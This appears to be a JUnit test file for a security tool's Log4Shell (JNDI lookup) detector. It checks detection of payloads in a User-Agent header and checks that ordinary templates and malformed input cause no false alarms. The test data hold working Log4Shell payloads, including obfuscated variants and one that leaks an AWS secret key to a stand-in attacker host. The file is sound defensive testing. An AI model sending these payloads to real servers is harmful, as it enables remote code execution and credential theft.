package dev.warden.detect.jndi;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.detect.Finding;
import dev.warden.extract.Input;
import dev.warden.extract.Source;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JndiDetectorTest {

  private final JndiDetector detector = new JndiDetector();

  private Optional<Finding> inspect(String text) {
    return detector.inspect(Input.value(Source.HEADER, "headers.user-agent", text));
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
    "${jndi:ldap://attacker.example/a} | jndi-lookup",
    "Mozilla/5.0 ${jndi:rmi://10.0.0.1:1099/x} | jndi-lookup",
    "${jNdI:LdAp://x.example/a} | obfuscated-jndi",
    "${${lower:j}ndi:ldap://x.example/a} | obfuscated-jndi",
    "${${upper:j}${upper:n}di:dns://x.example} | obfuscated-jndi",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a} | obfuscated-jndi",
    "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x.example/a} | obfuscated-jndi",
    "${${date:'j'}${date:'n'}di:ldap://x.example/a} | obfuscated-jndi",
    "${${abc:def:-j}${xyz:-n}${q:r:s:-d}i:ldap://x.example/a} | obfuscated-jndi",
    "$${env:a:-${env:b:-$}{jndi:ldap://x.example/a}}} | obfuscated-jndi",
    "$\\u007Bjndi:ldap://x.example/a} | obfuscated-jndi",
    "$&lbrace;jndi:ldap://x.example/a} | obfuscated-jndi",
    "&#36;{jndi:ldap://x.example/a} | obfuscated-jndi",
    "${jndi:ldap://x.example/${env:AWS_SECRET_ACCESS_KEY} | jndi-lookup",
    "${env:AWS_SECRET_ACCESS_KEY} | lookup-leak",
    "${sys:user.home} | lookup-leak",
    "${ctx:loginId} | lookup-leak",
    "${lower:HELLO} | lookup-obfuscation",
    "$\\u007Bsomething | encoded-lookup",
  })
  void inspect_log4jLookup_reportsRule(String text, String rule) {
    assertThat(inspect(text)).as(text).hasValueSatisfying(f -> {
      assertThat(f.rule()).isEqualTo(rule);
      assertThat(f.detector()).isEqualTo("jndi");
    });
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "Hello ${name}, your order ${order.id} shipped",
    "export PATH=${HOME}/bin:${PATH}",
    "image: ${REGISTRY:-docker.io}/app:${TAG:-latest}",
    "server.port=${PORT:8080}",
    "It costs $5 {approx}",
    "The JNDI API lets Java look up ldap: directory entries",
    "{\"template\": \"Dear ${customer.name}\"}",
    "$",
    "${",
    "",
  })
  void inspect_templatesAndProse_noFinding(String text) {
    assertThat(inspect(text)).as(text).isEmpty();
  }

  @Test
  void inspect_adversarialMegabyte_staysBoundedAndQuiet() {
    String[] units = {"${", "}", "${lower:", "$${", ":-", "\\u0024", "&lbrace;", "%24", "${::-${"};
    dev.warden.testing.Megabytes.assertBounded(detector, units);
  }

  @Test
  void evaluate_deepNesting_stopsAtDepthCap() {
    LookupEvaluator ev = new LookupEvaluator();
    String nested = "${lower:".repeat(5_000) + "x" + "}".repeat(5_000);
    String out = ev.evaluate(nested);
    assertThat(out.length()).isLessThanOrEqualTo(LookupEvaluator.MAX_INPUT);
    // Resolved values are resolved again, so work can branch; the depth cap and the step budget
    // together keep it small.
    assertThat(ev.lookups).isLessThanOrEqualTo(1 << (LookupEvaluator.MAX_DEPTH + 2));
  }

  @Test
  void inspect_garbage_neverThrows() {
    String[] inputs = {"\uD800${", "${\u0000}", "${:-}", "${:}", "${::}", "$\\u", "&#", "&#x;", "%2",
        "${date:'}", "${jndi:"};
    for (String s : inputs) {
      assertThat(detector.inspect(Input.value(Source.BODY, "b", s))).isNotNull();
    }
  }
}
